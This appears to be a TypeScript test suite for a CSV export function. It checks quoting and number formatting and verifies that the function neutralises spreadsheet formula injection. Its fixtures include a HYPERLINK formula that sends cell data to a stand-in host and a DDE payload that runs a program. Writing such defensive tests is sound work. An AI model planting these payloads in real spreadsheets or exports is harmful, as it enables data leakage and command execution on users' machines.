import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvField, formatCsvNumber, toCsv, type CsvCell } from './csv-export.ts';

const FORMULA_START = /^[=+\-@\t\r\0]/;

/** Reads a file back the way the server's portfolio importer reads CSV (csv-parse, `;`, BOM dropped). */
function readBack(text: string): string[][] {
  return parse(text, { delimiter: ';', bom: true, relax_column_count: false }) as string[][];
}

/** Text rich in the characters that matter here: formula starts, separators, quotes and line breaks. */
const hostileText = fc.oneof(
  fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\0', '\n', ';', ',', '"', "'", ' ', 'a', 'ñ', '1', '\uFEFF') }),
  fc.string({ unit: 'grapheme' }),
  fc.constantFrom('=HYPERLINK("http://x.example/?a="&A1;"clic")', '+57 315 000 0000', '-2+3', '@SUM(A1:A2)', '=cmd|\' /C calc\'!A0'),
);

/** Amounts as the exports carry them: whole pesos or centavos, negative included. */
const amount = fc.oneof(fc.integer({ min: -1e12, max: 1e12 }), fc.integer({ min: -1e12, max: 1e12 }).map((cents) => cents / 100));

/** Returns the text a reader gets back for a cell: formula text with its leading quote, numbers as the writer formats them. */
function expectedField(value: CsvCell): string {
  if (value === null) return '';
  if (typeof value === 'number') return formatCsvNumber(value);
  return FORMULA_START.test(value) ? `'${value}` : value;
}

const cell: fc.Arbitrary<CsvCell> = fc.oneof(hostileText, amount, fc.constant(null));

describe('csvField', () => {
  it.each<[CsvCell, string]>([
    ['=1+1', "'=1+1"],
    ['+573150000000', "'+573150000000"],
    ['-5', "'-5"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\0x', "'\0x"],
    ['\r=x', "\"'\r=x\""],
    ['a=b', 'a=b'],
    ['a;b', '"a;b"'],
    ['dijo "sí"', '"dijo ""sí"""'],
    ['línea 1\nlínea 2', '"línea 1\nlínea 2"'],
    ['=A1;B1', "\"'=A1;B1\""],
    ['', ''],
    [null, ''],
    [-5, '-5'],
    [-1234.5, '-1234,5'],
    [1234567, '1234567'],
    [-0, '0'],
    [1e21, '1000000000000000000000'],
  ])('writes %j as %j', (input, expected) => {
    expect(csvField(input)).toBe(expected);
  });

  it.each([Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY])('rejects the number %s', (value) => {
    expect(() => formatCsvNumber(value)).toThrow(/finite/);
  });
});

describe('toCsv', () => {
  it('starts with a BOM and ends every line with CRLF', () => {
    expect(toCsv(['a', 'b'], [['x', 1]])).toBe(`${CSV_BOM}a;b\r\nx;1\r\n`);
  });

  it('rejects a row with a missing cell', () => {
    expect(() => toCsv(['a', 'b'], [['x']])).toThrow('row 1 has 1 cells but the header has 2');
  });

  it('reads back as written, formula text neutralised', () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 6 }).chain((width) => fc.tuple(fc.array(hostileText, { minLength: width, maxLength: width }), fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 8 }))), ([header, rows]) => {
        const records = readBack(toCsv(header, rows));

        const expected = [header, ...rows].map((row) => row.map(expectedField));
        expect(records).toEqual(expected);
      }),
      { numRuns: 300 },
    );
  });

  it('lets no text cell start a formula', () => {
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 8 }), (rows) => {
        const records = readBack(toCsv(['nombre', 'saldo', 'nota'], rows)).slice(1);

        records.forEach((record, rowIndex) => {
          record.forEach((written, column) => {
            const original = rows[rowIndex]![column];
            if (typeof original === 'number') {
              expect(written).toMatch(/^-?\d+(,\d+)?$/);
              expect(Number(written.replace(',', '.'))).toBe(original === 0 ? 0 : original);
            } else {
              expect(written).not.toMatch(FORMULA_START);
            }
          });
        });
      }),
      { numRuns: 300 },
    );
  });
});
